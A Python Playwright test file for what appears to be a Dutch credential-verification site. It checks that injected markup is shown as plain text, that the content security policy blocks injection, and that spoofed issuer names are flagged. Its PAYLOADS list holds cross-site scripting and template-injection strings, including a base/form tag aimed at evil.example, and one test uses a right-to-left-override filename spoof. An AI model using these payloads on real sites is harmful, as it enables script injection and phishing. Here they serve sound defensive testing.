"""Texts of strangers on our pages: they come out as text, they deceive nobody, and nothing runs."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from tests.browser.looking import WIDE_LIGHT_NL, Look, Looker
from tests.browser.stage import Cast, Stage, example
from tests.browser.states import check_text, credential_of, foreign_badge, open_link, parsed, unfold
from tests.verifiers import world
from verifiers.primitives import jcs

Looking = Callable[[Look], Page]
PAYLOADS = (
    "<script>window.fired=1</script>",
    '"><img src=x onerror="window.fired=1">',
    "'><svg onload=window.fired=1>",
    "</title></svg></desc><script>alert(1)</script>",
    "javascript:alert(1)",
    "{{ 7 * 7 }}{% raw %}",
    "<iframe srcdoc='<script>parent.fired=1</script>'></iframe>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "%(title)s %s %%",
    "<bdi><base href=//evil.example/><form action=//evil.example>",
    "&lt;b&gt;&#x3C;script&#x3E;",
    "<style>*{display:none}</style>",
)
OURS = (
    "main script, main iframe, main img, main style, main base, main [onerror], main [onload], main [onfocus]"
)


def everywhere(value: Any, payload: str) -> Any:
    """Return a document with a payload behind each of its texts, but for what decides how it is read."""
    if isinstance(value, dict):
        kept = {
            "@context",
            "type",
            "cryptosuite",
            "proofPurpose",
            "achievementType",
            "targetType",
            "identityType",
        }
        return {name: item if name in kept else everywhere(item, payload) for name, item in value.items()}
    if isinstance(value, list):
        return [everywhere(item, payload) for item in value]
    return f"{value} {payload}" if isinstance(value, str) else value


def assert_quiet(page: Page) -> None:
    """Nothing ran, and nothing of a stranger became a part of the page."""
    assert page.evaluate("window.fired") is None
    assert page.locator(OURS).count() == 0
    assert page.locator("main form").count() <= 2  # two ways to take a trail along
    assert page.locator("main a[href^='javascript']").count() == 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_credential_full_of_markup_comes_out_as_text(
    look: Looking, on: Stage, cast: Cast, payload: str
) -> None:
    page = look(WIDE_LIGHT_NL)
    document = everywhere(parsed(credential_of(cast)), payload)
    check_text(page, on, jcs.canonicalise(document).decode())
    unfold(page)
    assert page.inner_text("h1") == "Dit bewijs klopt niet"
    shown = page.inner_text("main")
    assert shown.count(payload) > 15
    assert_quiet(page)


def test_a_trail_full_of_markup_comes_out_as_text(look: Looking, on: Stage, cast: Cast) -> None:
    payload = PAYLOADS[1]
    school = on.organisation(f"School {payload}", "school")
    learner = on.learner(school, f"Naam {payload}")
    attestation = example("workplace")
    attestation |= {
        name: f"{attestation[name]} {payload}" for name in ("title", "description", "context", "role")
    }
    attestation["skills"][0]["name"] += payload
    attestation["supervisor"]["name"] += payload
    attestation["tasks"][0] += payload
    on.issue(school, learner, attestation)
    page = look(WIDE_LIGHT_NL)
    open_link(page, on.share(learner, purpose=f"Voor {payload}"), visitor=f"Ik {payload}")
    unfold(page)
    assert page.inner_text("h1") == f"Naam {payload}"
    assert page.inner_text("main").count(payload) > 8
    assert payload in (page.locator("svg.wide-only desc").text_content() or "")
    assert_quiet(page)


def test_what_got_in_all_the_same_would_be_stopped_by_the_policy(browser: Browser, on: Stage) -> None:
    looker = Looker(browser, on.base_url)
    page = looker.page()
    page.goto(f"{on.base_url}/")
    blocked = page.evaluate(
        """() => new Promise(done => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", event => {
                seen.push(event.effectiveDirective);
                if (seen.length === 2) done(seen.sort());
            });
            const styled = document.createElement("p");
            styled.setAttribute("style", "color: red");
            document.body.append(styled);
            try { document.body.innerHTML += "<p>x</p>" } catch { /* trusted types */ }
        })"""
    )
    looker.close()
    assert blocked == ["require-trusted-types-for", "style-src-attr"]
    assert all(complaint.startswith("console: ") for complaint in looker.complaints)


def test_a_badge_of_an_unknown_issuer_proves_nobody(look: Looking, on: Stage, cast: Cast) -> None:
    page = look(WIDE_LIGHT_NL)
    check_text(page, on, foreign_badge())
    assert page.inner_text("h1") == "Niet alles aan dit bewijs is te controleren"
    assert "Wij kennen deze uitgever niet." in page.inner_text(".result-head")
    person = page.locator(".check", has_text="Persoon")
    assert "niet te controleren" in person.inner_text()
    assert "Dit bewijst niet wie het laat zien." in person.inner_text()
    assert page.locator(".stamp.is-valid").count() == 0
    assert "gemaakt met andere software" in page.inner_text(".card")


def test_a_name_in_a_credential_is_shown_as_a_claim_only(look: Looking, on: Stage, cast: Cast) -> None:
    page = look(WIDE_LIGHT_NL)
    check_text(page, on, credential_of(cast))
    about = page.locator(".who > div", has_text="Gaat over")
    assert "niet gecontroleerd wie het laat zien" in about.inner_text()
    assert "Wie het laat zien, is niet gecontroleerd." in page.inner_text(".result-head")


def test_a_name_that_looks_like_another_is_pointed_out(look: Looking, on: Stage, cast: Cast) -> None:
    document = world.credential()
    # Cyrillic letters in the middle, and a character that turns what follows around.
    document["issuer"]["name"] = document["name"] = "Hogeschool Utr\u0435\u0441ht \u202egnp.exe"
    page = look(WIDE_LIGHT_NL)
    check_text(page, on, world.text(world.issue(document)).decode())
    issuer = page.locator(".who > div", has_text="Uitgegeven door")
    assert "verschillende alfabetten" in issuer.inner_text()
    # What the browser is given to check holds it; what anybody is shown does not.
    page.evaluate("document.querySelector('#own-check').removeAttribute('data-own-check')")
    assert "\u202e" not in page.content()
    assert "did:key:" in issuer.inner_text()
